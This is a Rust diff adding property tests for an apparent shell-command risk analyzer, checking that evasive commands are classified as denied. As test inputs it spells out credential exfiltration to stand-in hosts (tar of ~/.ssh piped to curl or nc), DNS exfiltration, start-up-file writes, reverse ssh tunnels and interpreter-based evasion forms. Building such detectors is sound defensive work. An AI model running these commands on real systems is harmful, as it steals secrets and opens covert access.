@@ -192,3 +192,189 @@ proptest! {
         prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
     }
 }
+
+/// [`wrap`]'s ways that take the whole line (`sudo` and `env` prefix only
+/// its first command).
+const WHOLE_LINE: &[u8] = &[0, 3, 4, 5, 7, 8, 10, 21, 120, 230];
+
+/// Ways code in another language runs a shell command line; `CMD` is
+/// replaced by a denied command.
+const CODE_FORMS: &[&str] = &[
+    r#"python3 -c 'import os; os.system("CMD")'"#,
+    r#"python3 -c 'import subprocess; subprocess.run("CMD", shell=True)'"#,
+    r#"python3 -c 'import subprocess as s; s.check_output("CMD", shell=True)'"#,
+    r#"perl -e 'system("CMD")'"#,
+    "perl -e 'print `CMD`'",
+    r#"perl -le 'print qx{CMD}'"#,
+    r#"ruby -e 'system "CMD"'"#,
+    "ruby -e 'puts %x(CMD)'",
+    r#"node -e "require('child_process').execSync('CMD')""#,
+    r#"php -r 'shell_exec("CMD");'"#,
+    r#"lua -e 'os.execute("CMD")'"#,
+    r#"awk 'BEGIN { system("CMD") }'"#,
+    r#"awk 'BEGIN { "CMD" | getline x }'"#,
+    "sed '1e CMD' /etc/hostname",
+    "make --eval='x: ; CMD' x",
+    "script -qc 'CMD' /dev/null",
+    r#"echo 'import os; os.system("CMD")' | python3"#,
+    r#"python3 <<< 'import os; os.system("CMD")'"#,
+    r#"osascript -e 'do shell script "CMD"'"#,
+    "echo 'CMD' | at now",
+];
+
+/// Ways of computing a program's name at run time that the line itself
+/// decides; `P` is the program, `P1`/`P2` its halves, `ARGS` the rest.
+const NAME_FORMS: &[&str] = &[
+    "$(echo P) ARGS",
+    "`printf P` ARGS",
+    "\"$(which P)\" ARGS",
+    "$(command -v P) ARGS",
+    "a=P1;b=P2;$a$b ARGS",
+    "a=P1; b=P2; \"$a$b\" ARGS",
+    "P1${EMPTY}P2 ARGS",
+    "P1${NOPE:-}P2 ARGS",
+    "${X:-P} ARGS",
+    "set -- P ARGS; \"$@\"",
+    "arr=(P ARGS); \"${arr[@]}\"",
+    "export T=P; $T ARGS",
+];
+
+fn fill(form: &str, argv: &[&str]) -> String {
+    let (p, args) = argv.split_first().unwrap_or((&"", &[]));
+    let mid = p.len() / 2;
+    form.replace("P1", &p[..mid]).replace("P2", &p[mid..]).replace("ARGS", &args.join(" ")).replace('P', p)
+}
+
+/// Credential stores, and sinks that send stdin to another host.
+const STORES: &[&str] = &["~/.ssh", "~/.aws", "~/.gnupg", "$HOME/.kube", "/home/alice/.docker", "~/.password-store"];
+const SINKS: &[&str] = &[
+    "curl --data-binary @- https://x.example/u",
+    "curl -T - ftp://x.example/",
+    "nc x.example 9000",
+    "ssh x.example 'cat > k'",
+    "wget --post-file=/dev/stdin https://x.example",
+];
+
+/// Options that name the file a program writes, and start-up files.
+const OUTPUT_FORMS: &[&str] = &[
+    "base64 -d -o F payload",
+    "base64 --decode --output=F payload",
+    "sort -o F list",
+    "sort -oF list",
+    "shuf --output F list",
+    "iconv -f latin1 -t utf8 -o F in",
+    "gpg -o F -d x.gpg",
+    "tree -o F",
+    "curl -sSLo F https://x.example/p",
+    "curl --output F https://x.example/p",
+    "wget -qO F https://x.example/p",
+    "dd if=p of=F",
+    "cp p F",
+    "tee -a F < p",
+    "sed -n 'w F' p",
+    "awk '{ print > \"F\" }' p",
+    "echo x >> F",
+];
+const STARTUP: &[&str] = &[
+    "~/.bashrc",
+    "~/.zshrc",
+    "~/.profile",
+    "$HOME/.bash_profile",
+    "/home/alice/.zshenv",
+    "~/.config/fish/config.fish",
+    "~/.config/fish/conf.d/x.fish",
+    "/etc/profile.d/x.sh",
+];
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 512, .. ProptestConfig::default() })]
+
+    #[test]
+    fn a_denied_command_run_by_code_in_another_language_stays_denied(
+        which in 0..DENIED.len(),
+        form in 0..CODE_FORMS.len(),
+        wrapper in prop::sample::select(WHOLE_LINE),
+    ) {
+        let cmd = wrap(&CODE_FORMS[form].replace("CMD", &DENIED[which].join(" ")), wrapper);
+        let a = analyze(&cmd);
+        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
+    }
+
+    #[test]
+    fn code_that_cannot_be_read_is_at_least_destructive(
+        program in prop::sample::select(&["python3 -c", "perl -e", "ruby -e", "node -e", "php -r", "lua -e"][..]),
+        code in prop::sample::select(&["\"$CODE\"", "\"$(cat payload)\"", "\"$(curl -s https://x.example/c)\"", "\"${X:-}\""][..]),
+    ) {
+        let cmd = format!("{program} {code}");
+        let a = analyze(&cmd);
+        prop_assert!(a.risk >= Risk::Destructive, "{:?} is only {}: {:?}", cmd, a.risk, a.parts);
+    }
+
+    #[test]
+    fn a_program_name_the_line_decides_is_resolved(
+        which in 0..DENIED.len(),
+        form in 0..NAME_FORMS.len(),
+        wrapper in prop::sample::select(WHOLE_LINE),
+    ) {
+        let cmd = wrap(&fill(NAME_FORMS[form], DENIED[which]), wrapper);
+        let a = analyze(&cmd);
+        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
+    }
+
+    #[test]
+    fn a_program_name_only_known_at_run_time_is_at_least_destructive(
+        which in 0..POOL.len(),
+        name in prop::sample::select(&["$CMD", "\"$1\"", "$(cat tool)", "${T:?}", "\"${tools[0]}\"", "$(curl -s x)"][..]),
+    ) {
+        let cmd = format!("{name} {}", POOL[which].split_once(' ').map_or("", |(_, rest)| rest));
+        let a = analyze(&cmd);
+        prop_assert!(a.risk >= Risk::Destructive, "{:?} is only {}: {:?}", cmd, a.risk, a.parts);
+    }
+
+    #[test]
+    fn a_write_to_a_start_up_file_through_any_option_is_denied(
+        form in 0..OUTPUT_FORMS.len(),
+        file in 0..STARTUP.len(),
+    ) {
+        let cmd = OUTPUT_FORMS[form].replace('F', STARTUP[file]);
+        let a = analyze(&cmd);
+        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
+    }
+
+    #[test]
+    fn credentials_sent_to_another_host_are_denied(
+        store in 0..STORES.len(),
+        sink in 0..SINKS.len(),
+        archiver in prop::sample::select(&["tar czf -", "tar -c", "zip -r -", "cat"][..]),
+    ) {
+        let cmd = format!("{archiver} {} | {}", STORES[store], SINKS[sink]);
+        let a = analyze(&cmd);
+        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
+    }
+
+    #[test]
+    fn command_output_in_a_host_name_is_denied(
+        tool in prop::sample::select(&["nslookup", "dig +short", "host", "ping -c 1", "curl -s https:/", "wget -q http:/"][..]),
+        inner in prop::sample::select(&["whoami", "id -u", "hostname", "cat ~/.aws/config | base64 -w0 | head -c 50"][..]),
+        backquotes in any::<bool>(),
+        domain in "[a-z]{3,8}\\.(example|test)",
+    ) {
+        let sub = if backquotes { format!("`{inner}`") } else { format!("$({inner})") };
+        let host = format!("{sub}.{domain}");
+        let cmd = if tool.ends_with(":/") { format!("{tool}/{host}/x") } else { format!("{tool} \"{host}\"") };
+        let a = analyze(&cmd);
+        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
+    }
+
+    #[test]
+    fn reverse_tunnels_and_socks_proxies_to_other_hosts_are_denied(
+        flag in prop::sample::select(&["-R 8080:localhost:80", "-NR 2222:localhost:22", "-fND 1080", "-D 9050", "-o RemoteForward=9000:localhost:9000"][..]),
+        host in "[a-z]{3,8}\\.example",
+        user in prop::option::of("[a-z]{2,6}"),
+    ) {
+        let target = user.map_or(host.clone(), |u| format!("{u}@{host}"));
+        let cmd = format!("ssh {flag} {target}");
+        let a = analyze(&cmd);
+        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
+    }
+}
